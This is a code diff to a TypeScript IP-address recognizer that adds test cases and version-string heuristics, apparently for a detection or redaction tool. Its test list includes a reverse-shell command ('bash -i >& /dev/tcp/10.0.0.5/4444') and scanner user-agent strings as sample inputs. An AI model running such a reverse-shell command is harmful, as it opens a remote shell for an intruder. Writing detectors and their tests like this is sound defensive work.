@@ -52,7 +52,11 @@ export const ipAddress: Recognizer = {
       ["curl http://167772165/x", "167772165"],
       ["curl http://0x0a000005:80/", "0x0a000005"],
       ["curl http://012.0.0.5/", "012.0.0.5"],
+      ["kubectl debug node/10.0.0.5", "10.0.0.5"],
+      ["mount nfs/10.0.0.5 x", "10.0.0.5"],
+      ["scp shop/f 10.0.0.5:/x", "10.0.0.5"],
       ["bash -i >& /dev/tcp/10.0.0.5/4444", "10.0.0.5"],
+      ["tshark -Y ip.addr==10.0.0.5", "10.0.0.5"],
     ],
     ignored: [
       "version 1.2.3",
@@ -62,6 +66,11 @@ export const ipAddress: Recognizer = {
       "nginx-1.24.0.2.tar.gz",
       "v1.2.3.4",
       "Chrome/120.0.6.109",
+      'GET / "sqlmap/1.8.3.2#stable (x)"',
+      "agent=some-sdk-java/2.20.160.1 Linux",
+      "ua=masscan/1.3.2.1)",
+      "version=2.9.4.1 x",
+      "images=(registry.shop.lan/platform/limiter:10.2.0.7)",
       "pip install x==1.2.3.4",
       "127.0.0.1:80",
       "::1",
@@ -122,10 +131,35 @@ function looksLikePort(value: string, text: string, end: number): boolean {
 /** Four numbers in a file name, behind a `v`, `==` or the name of a browser are a version; a word that goes on is no address. */
 function isVersion(text: string, start: number, end: number): boolean {
   const before = text.slice(Math.max(0, start - 32), start);
-  if (/[\w.]$|[A-Za-z][-~+]$|[=~<>!]=$/.test(before)) return true;
+  if (/[\w.]$|[A-Za-z][-~+]$/.test(before)) return true;
+  // `pkg==1.2.3.4`, but `ip.addr==10.0.0.5`.
+  if (/[=~<>!]=$/.test(before)) return !/(?:addr|ip|src|dst|host)\s?[=!]=$/i.test(before);
   const after = text.slice(end, end + 3);
   if (/^\w|^\.\w|^[-~+](?:r?\d|deb|ubuntu)/.test(after)) return true;
-  return /(?:^|[\s"'(;])[A-Z][A-Za-z]{1,24}\/$/.test(before);
+  return /(?:^|[\s"'(;])[A-Z][A-Za-z]{1,24}\/$/.test(before) || isProduct(text, start, end) || isNamedVersion(before);
+}
+
+const product = /(?:^|[\s"'(;,=|{])([A-Za-z][\w.+-]{1,40})\/$/;
+/** What stands in front of a slash and an address: kinds of objects, protocols, classes of services. */
+const noProduct =
+  /^(?:tcp|udp|ip|ipv4|ipv6|icmp|http|https|ldap|ldaps|cifs|nfs|smb|host|hosts|node|nodes|pod|pods|svc|services?|ep|endpoints?|dns|rpc|dev|net|from|to|via|src|dst|client|server|peer|addr|address|https?-proxy|kafka|redis|mysql|postgres|DIRECT|HIER_DIRECT|DEFAULT_PARENT|[A-Z_]{6,40})$/;
+
+/** \`name/1.2.3.4\` in a client's name for itself (RFC 9110, section 10.1.5), an image's tag: a version. */
+function isProduct(text: string, start: number, end: number): boolean {
+  const before = text.slice(Math.max(0, start - 96), start);
+  if (/(?:^|[\s"'(,=[])(?:[\w-]{1,63}\.)*[\w-]{1,63}(?::\d{2,5})?(?:\/[\w.-]{1,64}){1,5}:$/.test(before))
+    return !/^:\d|^->/.test(text.slice(end, end + 2)) && !before.includes("//");
+  const name = product.exec(before)?.[1] ?? "";
+  if (name === "" || noProduct.test(name) || /^[/:]|^->/.test(text.slice(end, end + 2))) return false;
+  const isPrivate = /^(?:10|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./.test(text.slice(start, end));
+  return !isPrivate || clientName.test(text.slice(Math.max(0, start - 240), start));
+}
+
+const clientName = /(?:user[_-]?agent|useragent|\bua|\bagent)["']?\s?[=:]\s?["'(]?[^=]{0,200}$/i;
+
+/** \`version=2.9.4.1\`, \`"engineVersion": "1.2.3.4"\`, \`mssql 15.0.2000.5\`. */
+function isNamedVersion(before: string): boolean {
+  return /(?:version|release|revision|build|ver|tag)["']?\s?[=:]\s?["'v]?$/i.test(before);
 }
 
 const numeric = /^(?:0x[0-9a-f]{1,8}|\d{8,10}|(?:0x[0-9a-f]{1,2}|0?\d{1,3})(?:\.(?:0x[0-9a-f]{1,2}|0?\d{1,3})){1,3})$/i;
